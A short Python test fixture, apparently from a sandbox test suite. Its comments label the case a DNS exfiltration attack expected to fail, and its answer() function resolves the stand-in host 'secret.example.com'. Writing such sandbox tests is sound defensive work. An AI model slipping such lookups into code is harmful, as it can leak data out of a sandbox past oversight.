# class: network
# attack: resolve a host name (DNS exfiltration)
# reason: answer raised (gaierror|OSError)
# honest: 1
import socket


def honest(x):
    return 2 * x

def answer():
    socket.getaddrinfo('secret.example.com', 80)
    return 0
